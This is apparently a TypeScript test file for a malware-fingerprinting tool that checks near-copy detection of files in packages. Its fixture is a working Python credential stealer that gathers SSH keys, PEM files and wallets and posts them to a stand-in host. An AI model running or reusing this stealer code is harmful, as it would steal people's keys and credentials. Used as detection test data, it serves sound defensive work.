import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { describe, it } from 'node:test'
import { filesOfRecord } from '../../archive/pack-files.ts'
import { fingerprintPack } from './fingerprint.ts'
import { bandsOf, runsOf, similarityOf, sketchOf } from './sketch.ts'

const source = (name: string) => readFileSync(new URL(name, import.meta.url), 'utf8')
const stealer = `
import os, json, base64, urllib.request
class Uploader:
    TARGET = "https://collect.example.test/in"
    def gather(self, folder):
        found = {}
        for root, _, files in os.walk(os.path.expanduser(folder)):
            for name in files:
                if name.endswith((".key", ".pem", ".wallet")):
                    with open(os.path.join(root, name), "rb") as file:
                        found[name] = base64.b64encode(file.read()).decode()
        return found
    def send(self, found):
        body = json.dumps({"host": os.uname().nodename, "found": found}).encode()
        request = urllib.request.Request(self.TARGET, data=body, headers={"content-type": "application/json"})
        return urllib.request.urlopen(request, timeout=5).status
    def run(self):
        for folder in ("~/.ssh", "~/.config", "~/Documents"):
            self.send(self.gather(folder))
`

const similarity = (a: string, b: string) => similarityOf(sketchOf(runsOf(a)), sketchOf(runsOf(b)))
const haveBandInCommon = (a: string, b: string) => {
  const others = new Set(bandsOf(sketchOf(runsOf(b))))
  return bandsOf(sketchOf(runsOf(a))).some((band) => others.has(band))
}

describe('fingerprints', () => {
  it('ignores comments, blanks and the order of functions', () => {
    const [head = '', ...methods] = stealer.split(/(?= {4}def )/)
    const moved = [head, ...methods.toReversed()].join('\n\n# nothing to see here\n')
    assert.equal(similarity(stealer, stealer.replaceAll('    ', '\t')), 1)
    assert.ok(similarity(stealer, moved) > 0.8, String(similarity(stealer, moved)))
  })

  it('finds a copy with another address and list as a near copy, through the index', () => {
    const changed = stealer
      .replace('collect.example.test/in', 'other.example.test/x')
      .replace('".wallet"', '".dat", ".sqlite"')
    assert.ok(similarity(stealer, changed) > 0.75, String(similarity(stealer, changed)))
    assert.ok(haveBandInCommon(stealer, changed))
  })

  it('finds little in common with unrelated code', () => {
    assert.ok(similarity(source('sketch.ts'), source('fingerprint.ts')) < 0.3)
    assert.ok(similarity(stealer, source('sketch.ts')) < 0.1)
  })

  it('gives no fingerprint to short files, licenses, pictures and data', async () => {
    const files: Record<string, string> = {
      '__init__.py': '',
      'nodes/__init__.py':
        'from .blur import Blur\nNODE_CLASS_MAPPINGS = {"Blur": Blur}\n__all__ = ["NODE_CLASS_MAPPINGS"]\n',
      LICENSE: stealer,
      'data.json': stealer,
      'tiny.so': 'x'.repeat(100),
      'steal.py': stealer,
      'lib.so': 'x'.repeat(5000),
    }
    const pack = filesOfRecord(files)
    const found = await fingerprintPack(pack)
    assert.deepEqual(
      found.map(({ path, digest, sketch }) => [path, digest.length, sketch?.length]),
      [
        ['lib.so', 64, undefined],
        ['steal.py', 64, 64],
      ],
    )
  })

  it('makes a sketch of hostile texts', () => {
    for (const text of [
      '/* '.repeat(300_000),
      '/*'.repeat(100_000),
      '"'.repeat(300_000),
      '\ud800'.repeat(10_000),
      '#'.repeat(200_000),
    ])
      assert.equal(sketchOf(runsOf(text)).length, 64)
  })
})
